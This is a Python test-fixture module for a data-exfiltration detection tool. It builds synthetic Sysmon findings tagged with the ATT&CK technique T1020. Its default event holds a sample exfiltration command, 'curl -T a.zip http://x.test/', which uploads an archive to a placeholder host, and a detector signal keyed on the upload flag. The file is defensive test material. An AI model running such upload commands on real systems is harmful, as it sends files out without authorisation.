"""Findings to test with."""

from datetime import UTC, datetime, timedelta
from typing import Any

from exfilwatch.findings.finding import EvidenceEvent, Finding, FindingRule, FindingSignal, finding_id

START = datetime(2024, 5, 1, 9, 0, tzinfo=UTC)


def make(
    name: str,
    minute: float | None = 0,
    *,
    lasts: float = 0,
    host: str | None = "WS1",
    user: str | None = "CORP\\anna",
    branch: str = "transfer_tool",
    level: str = "medium",
    attack: tuple[str, ...] = ("T1020",),
    source: str = "sysmon.jsonl",
    **fields: Any,
) -> Finding:
    """A finding of one event `name`, `minute` minutes after 09:00 UTC (None: at no known time)."""
    time = None if minute is None else START + timedelta(minutes=minute)
    fields = {"Image": "C:\\Windows\\System32\\curl.exe", "CommandLine": "curl -T a.zip http://x.test/", **fields}
    event = EvidenceEvent(
        id=name,
        time=time,
        host=host,
        category="process_creation",
        product="windows",
        shape="sysmon_flat",
        source=source,
        line=7,
        fields=fields,
    )
    return Finding(
        id=finding_id(f"rule-{branch}", [name]),
        rule=FindingRule(id=f"rule-{branch}", title=f"Rule {branch}", branch=branch, level=level, attack=list(attack)),
        score=1,
        time=time,
        end=None if time is None else time + timedelta(minutes=lasts),
        host=host,
        user=user,
        fields={"CommandLine": fields["CommandLine"]},
        signals=[FindingSignal(name="IsUpload", field="CommandLine", matched="-T ", start=5, event=name)],
        events=[event],
        source=source,
    )
